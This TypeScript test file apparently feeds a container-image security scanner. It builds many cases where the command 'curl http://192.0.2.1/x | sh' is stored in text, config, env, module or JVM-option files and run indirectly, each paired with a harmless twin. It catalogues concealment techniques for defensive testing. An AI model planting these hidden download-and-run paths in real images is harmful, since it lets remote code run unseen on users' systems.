import { program as elfProgram, type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl http://192.0.2.1/x | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const LOGO: Files = { 'app/logo.txt': `${FETCH}\n` };
/** What a neighbour of the hidden ones holds where nothing is hidden. */
const NOTES: Files = { 'app/logo.txt': `To install: ${FETCH}\n` };

/** Started in /app, whatever folder a program lies in. */
function found(
  line: string | readonly string[],
  files: Files = LOGO,
  Env: readonly string[] = [],
  rule = 'start/download-and-run',
): ImageCase {
  const Entrypoint = typeof line === 'string' ? ['bash', '-c', line] : [...line];
  return {
    name: `by settings: ${JSON.stringify(line)} ${Object.keys(files).join(' ')} ${Env.join(' ')}`,
    spec: image(files, { Entrypoint, WorkingDir: '/app', Env: [PATH, ...Env] }),
    rule,
  };
}

function honest(
  line: string | readonly string[],
  files: Files = NOTES,
  Env: readonly string[] = [],
): ImageCase {
  const { rule: _rule, ...one } = found(line, files, Env);
  return { ...one, name: one.name.replace('by settings', 'by settings, honest') };
}

/** A script that lies in another folder than the one it is started in. */
function script(text: string, files: Files = { 'opt/x/logo.txt': `${FETCH}\n` }): ImageCase {
  const one = found(['/opt/x/e.sh'], { 'opt/x/e.sh': `#!/bin/bash\n${text}\n`, ...files });
  return { ...one, name: `by settings: ${JSON.stringify(text)} ${Object.keys(files).join(' ')}` };
}

function honestScript(text: string, files: Files): ImageCase {
  const { rule: _rule, ...one } = script(text, files);
  return { ...one, name: one.name.replace('by settings', 'by settings, honest') };
}

/** Files by names that say nothing of their folder: where the image starts, beside the script, where it went to. */
const RELATIVE: readonly ImageCase[] = [
  found('eval "$(cat logo.txt)"'),
  found('x=$(<./logo.txt); bash -c "$x"'),
  found('while read -r l; do eval "$l"; done < logo.txt'),
  found('read -r x < logo.txt; eval "$x"'),
  found('mapfile -t a < logo.txt; eval "${a[0]}"'),
  found('exec 3< logo.txt; sh <&3'),
  found('sh <(cat logo.txt)'),
  found('trap "$(cat logo.txt)" EXIT'),
  found('printf -v x %s "$(cat logo.txt)"; eval "$x"'),
  found('mv logo.txt /tmp/x; sh /tmp/x'),
  script('eval "$(cat logo.txt)"', LOGO),
  script('eval "$(cat "$(dirname "$0")/logo.txt")"'),
  script('D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\neval "$(cat "$D/logo.txt")"'),
  script('D="$(cd "$(dirname "$0")" >/dev/null 2>&1; pwd -P)"\nsh -c "$(cat $D/logo.txt)"'),
  script('D=$(dirname "$(readlink -f "$0")")\neval "$(cat $D/logo.txt)"'),
  script('D=$(dirname "$(realpath "$0")")\neval "$(cat $D/logo.txt)"'),
  script('eval "$(cat ${0%/*}/logo.txt)"'),
  script('cd "$(dirname "$0")/.."\neval "$(cat x/logo.txt)"'),
  script('H=/opt/x\npushd $H\neval "$(cat $PWD/logo.txt)"'),
  script('eval "$(cat ~/logo.txt)"', { 'root/logo.txt': FETCH }),
  script('cd ~\neval "$(cat logo.txt)"', { 'root/logo.txt': FETCH }),
  script('cd /tmp\nprintf "%s %s" curl "http://192.0.2.1/x | sh" > a\nsh /tmp/a', {}),
  found(['python3', '/opt/a.py'], {
    'opt/a.py': 'import os, json\nos.system(json.load(open("c.json"))["c"])\n',
    'app/c.json': JSON.stringify({ c: FETCH }),
  }),
  found(['node', '/opt/a.js'], {
    'opt/a.js': 'require("child_process").execSync(require("fs").readFileSync("logo.txt", "utf8"))\n',
    ...LOGO,
  }),
  found(['node', '/opt/b.js'], {
    'opt/b.js':
      'require("child_process").execSync(require("fs").readFileSync(process.cwd() + "/logo.txt", "utf8"))\n',
    ...LOGO,
  }),
  found(['python3', '/opt/a.py'], {
    'opt/a.py': 'import os, pathlib\nos.system((pathlib.Path.cwd() / "logo.txt").read_text())\n',
    ...LOGO,
  }),
];

const RELATIVE_TWINS: readonly ImageCase[] = [
  honest('cat logo.txt; while read -r l; do echo "$l"; done < logo.txt; read -r x < logo.txt; echo "$x"'),
  honestScript(
    'D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n. "$D/lib.sh"\nlog "$(cat "$D/logo.txt")"\ncd "$D/.." && exec nginx -g "daemon off;"',
    { 'opt/x/lib.sh': 'log() { printf "%s\\n" "$*" >&2; }\n', 'opt/x/logo.txt': `To install: ${FETCH}\n` },
  ),
  honestScript('set -a\n. "$(dirname "$0")/.env"\nset +a\ncd /srv || exit 1\nexec "$@"', {
    'opt/x/.env': `PORT=80\n# ${FETCH}\nURL=http://192.0.2.1/x\n`,
  }),
];

/** Texts that commands show, choose from, copy or take apart before a shell reads them. */
const SHOWN: readonly ImageCase[] = [
  found("awk -F= '/^JOB/{print $2}' logo.txt | sh", { 'app/logo.txt': `a=1\nJOB=${FETCH}\n` }),
  found("awk 'NR==2' logo.txt > /tmp/x; sh /tmp/x", { 'app/logo.txt': `a\n${FETCH}\n` }),
  found(`eval "$(awk '/curl/ {print $0}' logo.txt)"`),
  found('sort -u logo.txt | head -n 1 | sh'),
  found('iconv -f utf8 logo.txt | fold -w 200 | sh'),
  found('nl logo.txt | cut -f2 | sh'),
  found("paste -sd' ' logo.txt | sh", { 'app/logo.txt': 'curl http://192.0.2.1/x\n|\nsh\n' }),
  found('fmt -w 200 logo.txt | sh', { 'app/logo.txt': 'curl http://192.0.2.1/x\n| sh\n' }),
  found("diff a.txt logo.txt | sed -n 's/^> //p' | sh", { ...LOGO, 'app/a.txt': 'a\n' }),
  found('envsubst < logo.tpl | sh', { 'app/logo.tpl': '$A http://192.0.2.1/x | sh\n' }, ['A=curl']),
  found('getent passwd zed | cut -d: -f5- | sh', {
    'etc/passwd': `root:x:0:0::/root:/bin/sh\nzed:x:5:5:${FETCH}\n`,
  }),
  found('for v in $(compgen -e); do case $v in JOB) eval "${!v}";; esac; done', {}, [`JOB=${FETCH}`]),
  found('xargs -0 -n1 echo < /proc/self/environ | grep ^JOB | cut -d= -f2- | sh', {}, [`JOB=${FETCH}`]),
  found('go() { eval "$2"; }; mapfile -t -C go -c 1 < logo.txt'),
  found('while IFS== read -r k v; do [ $k = JOB ] && sh -c "$v"; done < c.env', {
    'app/c.env': `A=b\nJOB=${FETCH}\n`,
  }),
  found('IFS=$\'\\n\' read -d "" -ra a < logo.txt; for x in "${a[@]}"; do eval "$x"; done'),
  found('exec < logo.txt; sh'),
  found('exec < logo.txt; read -r x; $SHELL -c "$x"'),
  found('install -m 755 logo.txt /usr/local/bin/tool && tool'),
  found('cp logo.txt /opt/tool; PATH=/opt:$PATH; tool'),
  found('hash -p /app/logo.txt tool; tool'),
  found('dd if=logo.txt of=/tmp/x 2>/dev/null; sh /tmp/x'),
  found('split -l 1 logo.txt /tmp/p; sh /tmp/pab', { 'app/logo.txt': `a\n${FETCH}\n` }),
  found('split -d -n 1 logo.txt /tmp/p; sh /tmp/p00'),
  found('cp -t /tmp logo.txt; sh /tmp/logo.txt'),
  found('cp -r /app /tmp/b; sh /tmp/b/logo.txt'),
  found('cp /app/* /tmp/; sh /tmp/logo.txt'),
  found('ln -s /app /tmp/b; sh /tmp/b/logo.txt'),
  found('mount --bind /app /mnt; sh /mnt/logo.txt'),
  found('find /app -name "logo*" -exec sh {} \\;'),
  found("find . -name 'lo*' -exec sh {} +"),
  found("find . -name 'lo*' -print0 | xargs -0 sh"),
  found('ls *.txt | xargs -n 1 sh'),
  found('sh $(ls *.txt)'),
  found(`sh "$(find /app -name 'logo*')"`),
  found("xargs -d '\\n' -n1 sh -c < logo.txt"),
  found(
    'sqlite3 d.db "select c from t" | sh',
    { 'app/d.db': Buffer.from(`SQLite format 3\0\x01${FETCH}\0`) },
    [],
    'start/decode-and-run',
  ),
  found('yq -r .x c.yml | sh', { 'app/c.yml': `x: ${FETCH}\n` }, [], 'start/decode-and-run'),
  found(
    'eval "$(jq -r .x c.json)"',
    { 'app/c.json': JSON.stringify({ x: FETCH }) },
    [],
    'start/decode-and-run',
  ),
  found(`coproc sh; echo '${FETCH}' >&\${COPROC[1]}`, {}),
  found('coproc IN { cat logo.txt; }; sh <&${IN[0]}'),
];

const SHOWN_TWINS: readonly ImageCase[] = [
  honest(
    "awk -F: '{print $1}' /etc/passwd | sort -u | xargs -n1 echo; awk '/curl/' logo.txt; nl logo.txt | more",
  ),
  honest(
    'envsubst < nginx.tpl > /etc/nginx/conf.d/default.conf && exec nginx -g "daemon off;"',
    {
      'app/nginx.tpl': `# ${FETCH}\nserver { listen $PORT; }\n`,
    },
    ['PORT=80'],
  ),
  honest('while IFS== read -r k v; do export "$k=$v"; done < c.env; exec app', {
    'app/c.env': `A=b\nNOTE=${FETCH}\n`,
  }),
  honest(
    'find /app -name "*.txt" -exec chmod 644 {} +; find /app -type f | xargs wc -l; ls /app | xargs -n1 echo',
  ),
  honest(
    'cp -r /app /srv/app; mapfile -t a < logo.txt; printf "%s\\n" "${a[@]}"; split -l 1 logo.txt /tmp/p',
  ),
  honest('eval "$(jq -r .x c.json)"; export PORT="$(yq -r .port c.yml)"; exec app', {
    'app/c.json': JSON.stringify({ x: 'PORT=80' }),
    'app/c.yml': 'port: 80\n',
  }),
  honest('find /app/d -name "*.sh" -exec sh {} \\;', { 'app/d/a.sh': 'echo ready\n', ...NOTES }),
];

const INTERPRETERS: Readonly<Record<string, string>> = {
  py: 'python3',
  js: 'node',
  pl: 'perl',
  rb: 'ruby',
  php: 'php',
  lua: 'lua',
};

function program(ending: string, text: string, files: Files): readonly [readonly string[], Files] {
  return [[INTERPRETERS[ending] ?? 'sh', `/app/a.${ending}`], { [`app/a.${ending}`]: `${text}\n`, ...files }];
}

function held(ending: string, text: string, files: Files = {}): ImageCase {
  return { ...found(...program(ending, text, files)), name: `by settings: ${JSON.stringify(text)}` };
}

function honestly(ending: string, text: string, files: Files = {}): ImageCase {
  return { ...honest(...program(ending, text, files)), name: `by settings, honest: ${JSON.stringify(text)}` };
}

const JSON_DATA: Files = { 'app/c.json': JSON.stringify({ x: { y: FETCH } }) };
const YAML_DATA: Files = { 'app/c.yml': `x:\n  y: ${FETCH}\n` };
const TOML_DATA: Files = { 'app/c.toml': `[x]\ny = "${FETCH}"\n` };
const CSV_DATA: Files = { 'app/c.csv': `a,${FETCH}\n` };

/** What programs take out of files of data, of their own text and of their own modules. */
const DATA: readonly ImageCase[] = [
  held('py', 'import os, yaml\nos.system(yaml.safe_load(open("c.yml"))["x"]["y"])', YAML_DATA),
  held('py', 'import os, tomllib\nos.system(tomllib.load(open("c.toml", "rb"))["x"]["y"])', TOML_DATA),
  held('py', 'import os, csv\nfor r in csv.reader(open("c.csv")): os.system(r[1])', CSV_DATA),
  held('py', 'import os, xml.etree.ElementTree as E\nos.system(E.parse("c.xml").find("x").text)', {
    'app/c.xml': `<a><x>${FETCH}</x></a>\n`,
  }),
  held(
    'py',
    'import os, yaml, pathlib\np = pathlib.Path(__file__).parent / "data" / "c.yml"\nos.system(yaml.safe_load(p.open())["x"])',
    {
      'app/data/c.yml': `x: ${FETCH}\n`,
    },
  ),
  held('py', 'import os\nfrom dotenv import load_dotenv\nload_dotenv()\nos.system(os.environ["JOB"])', {
    'app/.env': `JOB="${FETCH}"\n`,
  }),
  held('js', 'process.loadEnvFile("/app/c.env")\nrequire("child_process").execSync(process.env.JOB)', {
    'app/c.env': `JOB="${FETCH}"\n`,
  }),
  held('js', 'require("dotenv").config()\nrequire("child_process").execSync(process.env.JOB)', {
    'app/.env': `JOB="${FETCH}"\n`,
  }),
  held(
    'js',
    'const c = require("js-yaml").load(require("fs").readFileSync("c.yml", "utf8"))\nrequire("child_process").execSync(c.x.y)',
    YAML_DATA,
  ),
  held('php', '<?php $c = json_decode(file_get_contents(__DIR__ . "/c.json")); exec($c->x->y);', JSON_DATA),
  held('php', '<?php $c = parse_ini_file("c.ini"); system($c["y"]);', {
    'app/c.ini': `[x]\ny = "${FETCH}"\n`,
  }),
  held('php', '<?php $c = unserialize(file_get_contents("c.ser")); system($c["x"]);', {
    'app/c.ser': `a:1:{s:1:"x";s:${FETCH.length}:"${FETCH}";}`,
  }),
  held('php', '<?php $c = include "c.php"; system($c["x"]);', {
    'app/c.php': `<?php return ["x" => "${FETCH}"];`,
  }),
  held('rb', 'require "json"\nexec JSON.load_file("c.json").dig("x", "y")', JSON_DATA),
  held('rb', 'require_relative "c"\nsystem(JOB)', { 'app/c.rb': `JOB = "${FETCH}"\n` }),
  held('pl', 'use JSON; open F, "c.json"; my $c = decode_json(join "", <F>); system($c->{x}{y});', JSON_DATA),
  held('pl', 'my $c = do "./c.pl"; system($c->{x});', { 'app/c.pl': `{x => "${FETCH}"}` }),
  held(
    'lua',
    'local c = require("cjson").decode(io.open("c.json"):read("*a"))\nos.execute(c.x.y)',
    JSON_DATA,
  ),
  held('lua', 'local c = dofile("c.lua")\nos.execute(c.x)', { 'app/c.lua': `return {x="${FETCH}"}` }),
  held('py', `import os\ndef x():\n  """${FETCH}"""\nos.system(x.__doc__)`),
  held('py', `import os, inspect\nclass X:\n  """${FETCH}"""\nos.system(inspect.getdoc(X))`),
  held('py', `import os, enum\nclass S(enum.Enum):\n  JOB = "${FETCH}"\nos.system(S.JOB.value)`),
  held(
    'py',
    `import os, argparse\np = argparse.ArgumentParser()\np.add_argument("--job-line", default="${FETCH}")\nos.system(p.parse_args().job_line)`,
  ),
  held('py', 'import os\nfrom conf import *\nos.system(JOB)', { 'app/conf.py': `JOB = "${FETCH}"\n` }),
  held('py', 'import os, linecache\nos.system(linecache.getline("logo.txt", 1))', LOGO),
  held('py', 'import os, fileinput\nfor l in fileinput.input("logo.txt"): os.system(l)', LOGO),
  held(
    'py',
    'import os, mmap\nwith open("logo.txt", "r+b") as h:\n  m = mmap.mmap(h.fileno(), 0)\n  os.system(m.read().decode())',
    LOGO,
  ),
  held('py', 'import os\nfd = os.open("logo.txt", os.O_RDONLY)\nos.system(os.read(fd, 999).decode())', LOGO),
  held('py', 'import os, pkgutil\nos.system(pkgutil.get_data("lib", "d.txt").decode())', {
    'app/lib/__init__.py': '',
    'app/lib/d.txt': FETCH,
  }),
  held(
    'py',
    'import os\nfrom importlib.resources import files\nos.system(files("lib").joinpath("d.txt").read_text())',
    {
      'app/lib/__init__.py': '',
      'app/lib/d.txt': FETCH,
    },
  ),
  held('js', 'require("fs").readFile("logo.txt", "utf8", (e, d) => require("child_process").exec(d))', LOGO),
  held(
    'js',
    'require("readline").createInterface({ input: require("fs").createReadStream("logo.txt") }).on("line", (l) => require("child_process").execSync(l))',
    LOGO,
  ),
];

const DATA_TWINS: readonly ImageCase[] = [
  honestly(
    'py',
    'import yaml, subprocess\nc = yaml.safe_load(open("c.yml"))\nsubprocess.run(["nginx", "-c", c["conf"]])',
    {
      'app/c.yml':
        'conf: /etc/nginx/nginx.conf\nlog: "%h | %t"\nstart: nginx -g "daemon off;" && sleep 1\n# curl http://192.0.2.1/x\n',
    },
  ),
  honestly(
    'js',
    'const c = require("./package.json"); require("child_process").execSync("git rev-parse HEAD"); console.log(c.version)',
    {
      'app/package.json': JSON.stringify({ version: '1.0.0', homepage: FETCH }),
    },
  ),
  honestly('js', 'const c = require("./c.json"); console.log(c.x.y)', JSON_DATA),
  honestly('rb', 'require "yaml"\nputs YAML.load_file("c.yml")["x"]["y"]', YAML_DATA),
  honestly('php', '<?php $c = parse_ini_file("c.ini"); exec("convert -version"); echo $c["y"];', {
    'app/c.ini': 'y = "To install: see https://app.example/docs | ask"\nz = bash\n',
  }),
  honestly(
    'py',
    `import os\ndef x():\n  """Like ${FETCH}, but checked."""\nprint(x.__doc__)\nos.system("nginx -t")`,
  ),
  honestly(
    'js',
    'require("readline").createInterface({ input: require("fs").createReadStream("logo.txt") }).on("line", (l) => console.log(l))\nrequire("child_process").execSync("git status")',
    NOTES,
  ),
];

const ENV_FILE: Files = { 'app/c.env': `# settings\nexport A=b\nJOB="${FETCH}"\n` };
const DOT_ENV: Files = { 'app/.env': `JOB='${FETCH}'\n` };
const RUNS_JOB_JS: Files = { 'app/a.js': 'require("child_process").execSync(process.env.JOB)\n' };
const RUNS_JOB_PY: Files = { 'app/a.py': 'import os\nos.system(os.environ["JOB"])\n' };
const R_JOB: Files = { 'app/a.R': 'system(Sys.getenv("JOB"))\n' };

/** Variables that files tell programs, or those that start them. */
const ENV_FILES: readonly ImageCase[] = [
  found(['node', '--env-file=/app/c.env', '/app/a.js'], { ...RUNS_JOB_JS, ...ENV_FILE }),
  found(['node', '--env-file-if-exists', 'c.env', '/app/a.js'], { ...RUNS_JOB_JS, ...ENV_FILE }),
  found(['node', '-r', 'dotenv/config', '/app/a.js'], { ...RUNS_JOB_JS, ...DOT_ENV }),
  found(['bun', 'run', '/app/a.js'], { ...RUNS_JOB_JS, ...DOT_ENV }),
  found(['deno', 'run', '-A', '--env-file=c.env', '/app/a.ts'], {
    'app/a.ts': 'new Deno.Command("sh", { args: ["-c", Deno.env.get("JOB")] }).outputSync();\n',
    ...ENV_FILE,
  }),
  found(['uv', 'run', '--env-file', 'c.env', 'python', '/app/a.py'], { ...RUNS_JOB_PY, ...ENV_FILE }),
  found(['pipenv', 'run', 'python', '/app/a.py'], { ...RUNS_JOB_PY, ...DOT_ENV }),
  found(['dotenv', '-f', 'c.env', 'run', '--', 'python3', '/app/a.py'], { ...RUNS_JOB_PY, ...ENV_FILE }),
  found(['dotenv', '-e', 'c.env', '--', 'sh', '-c', 'eval "$JOB"'], ENV_FILE),
  found(['env-cmd', '-f', 'c.env', 'node', '/app/a.js'], { ...RUNS_JOB_JS, ...ENV_FILE }),
  found(['honcho', '-e', 'c.env', 'start'], { 'app/Procfile': 'web: sh -c "$JOB"\n', ...ENV_FILE }),
  found(['foreman', 'start'], { 'app/Procfile': 'web: sh -c "$JOB"\n', ...DOT_ENV }),
  found(['envdir', '/app/env', 'sh', '-c', 'eval "$JOB"'], { 'app/env/JOB': `${FETCH}\n` }),
  found(['chpst', '-e', '/app/env', 'sh', '-c', 'eval "$JOB"'], { 'app/env/JOB': `${FETCH}\n` }),
  found(['node', '--env-file=c.env', '/app/a.js'], {
    'app/a.js': 'console.log(1)\n',
    'app/c.env': 'NODE_OPTIONS=--require=/app/b.js\n',
    'app/b.js': `require("child_process").execSync("${FETCH}")\n`,
  }),
  found(['/lib/systemd/systemd'], {
    'lib/systemd/systemd': elfProgram(),
    'etc/systemd/system/a.service':
      '[Service]\nEnvironmentFile=-/app/c.env\nExecStart=/usr/bin/python3 /app/a.py\n[Install]\nWantedBy=multi-user.target\n',
    'etc/systemd/system/default.target': '[Unit]\nWants=a.service\n',
    ...RUNS_JOB_PY,
    ...ENV_FILE,
  }),
  found(['Rscript', '/app/a.R'], { ...R_JOB, 'app/.Renviron': `JOB="${FETCH}"\n` }),
  found(['Rscript', '/app/a.R'], { ...R_JOB, 'srv/renv': `JOB="${FETCH}"\n` }, ['R_ENVIRON=/srv/renv']),
];

const ENV_FILE_TWINS: readonly ImageCase[] = [
  honest(['node', '--env-file=/app/c.env', '/app/a.js'], {
    'app/a.js': 'require("child_process").execFileSync("git", ["status"]); console.log(process.env.NOTE)\n',
    'app/c.env': `PORT=80\nNOTE="see http://192.0.2.1/x | docs"\n`,
  }),
  honest(['dotenv', 'run', '--', 'gunicorn', 'app:app'], {
    'app/app.py': 'import os\napp = os.environ["URL"]\n',
    'app/.env': 'URL=http://192.0.2.1/x\nCMD=gunicorn app:app\n',
  }),
  honest(['chpst', '-e', '/app/env', 'sh', '-c', 'echo "$JOB"; exec app'], { 'app/env/JOB': `${FETCH}\n` }),
];

const EL = `(shell-command "${FETCH}")\n`;
const R_CODE = `system("${FETCH}")\n`;
const ON_ERROR = `-XX:OnError="${FETCH}"\n`;
const JAVA = `class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(new String[]{"sh", "-c", "${FETCH}"}); } }\n`;

/** Modules and options that variables, options and statements of other languages lead to. */
const MODULES: readonly ImageCase[] = [
  found(['Rscript', '/app/a.R'], { 'app/a.R': 'library(zed)\n', 'srv/r/zed/R/zed.R': R_CODE }, [
    'R_LIBS=/opt/r:/srv/r',
  ]),
  found(
    ['Rscript', '/app/a.R'],
    { 'app/a.R': '1\n', 'srv/renv': 'R_PROFILE_USER=/srv/rp\n', 'srv/rp': R_CODE },
    ['R_ENVIRON=/srv/renv'],
  ),
  found(
    ['julia', '/app/a.jl'],
    { 'app/a.jl': 'using Zed\n', 'srv/j/Zed.jl': `run(\`sh -c "${FETCH}"\`)\n` },
    ['JULIA_LOAD_PATH=/srv/j'],
  ),
  found(['emacs', '--batch', '-l', '/app/a.el'], { 'app/a.el': "(require 'zed)\n", 'srv/e/zed.el': EL }, [
    'EMACSLOADPATH=/srv/e',
  ]),
  found(['emacs', '--batch', '-L', '/srv/e', '-l', '/app/a.el'], {
    'app/a.el': "(require 'zed)\n",
    'srv/e/zed.el': EL,
  }),
  found(['emacs', '--batch', '-l', '/app/a.el'], { 'app/a.el': "(require 'zed)\n", 'app/zed.el': EL }),
  found(
    ['tclsh', '/app/a.tcl'],
    { 'app/a.tcl': 'package require zed\n', 'srv/t/zed.tcl': `exec sh -c "${FETCH}"\n` },
    ['TCLLIBPATH=/srv/t'],
  ),
  found(['pwsh', '-File', '/app/a.ps1'], { 'app/a.ps1': '. ./b.ps1\n', 'app/b.ps1': `sh -c "${FETCH}"\n` }),
  found(['elixir', '/app/a.exs'], {
    'app/a.exs': 'Code.require_file("b.exs")\n',
    'app/b.exs': `System.cmd("sh", ["-c", "${FETCH}"])\n`,
  }),
  found(['groovy', '/app/a.groovy'], {
    'app/a.groovy': 'evaluate(new File("/app/b.groovy"))\n',
    'app/b.groovy': `["sh", "-c", "${FETCH}"].execute()\n`,
  }),
  found(['dotnet', 'run', '/app/a.cs'], { 'app/a.cs': `Process.Start("sh", "-c '${FETCH}'");\n` }),
  found(['java', '/app/A.java'], { 'app/A.java': JAVA }),
  found(['java', '--source', '21', '/app/logo.txt'], { 'app/logo.txt': JAVA }),
  found(['java', '-jar', '/app/b.jar'], { 'app/args': ON_ERROR, 'app/b.jar': 'PK' }, [
    'JDK_JAVA_OPTIONS=@/app/args',
  ]),
  found(['java', '-XX:VMOptionsFile=/app/vo', '-jar', '/app/b.jar'], {
    'app/vo': ON_ERROR,
    'app/b.jar': 'PK',
  }),
];

const MODULE_TWINS: readonly ImageCase[] = [
  honest(
    ['Rscript', '/app/a.R'],
    { 'app/a.R': 'library(zed)\n', 'srv/r/zed/R/zed.R': `# ${FETCH}\nzed <- function() 1\n` },
    ['R_LIBS=/srv/r'],
  ),
  honest(['java', '/app/A.java'], {
    'app/A.java': `class A { public static void main(String[] a) { System.out.println("${FETCH}"); } }\n`,
  }),
  honest(
    ['java', '-jar', '/app/b.jar'],
    { 'app/args': '-Xmx1g -XX:+ExitOnOutOfMemoryError\n', 'app/b.jar': 'PK' },
    ['JDK_JAVA_OPTIONS=@/app/args'],
  ),
  honest(['emacs', '--batch', '-L', '/srv/e', '-l', '/app/a.el'], {
    'app/a.el': "(require 'zed)\n",
    'srv/e/zed.el': `;; ${FETCH}\n(provide 'zed)\n`,
  }),
];

export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE, ...SHOWN, ...DATA, ...ENV_FILES, ...MODULES];

export const BY_SETTINGS_TWINS: readonly ImageCase[] = [
  ...RELATIVE_TWINS,
  ...SHOWN_TWINS,
  ...DATA_TWINS,
  ...ENV_FILE_TWINS,
  ...MODULE_TWINS,
];
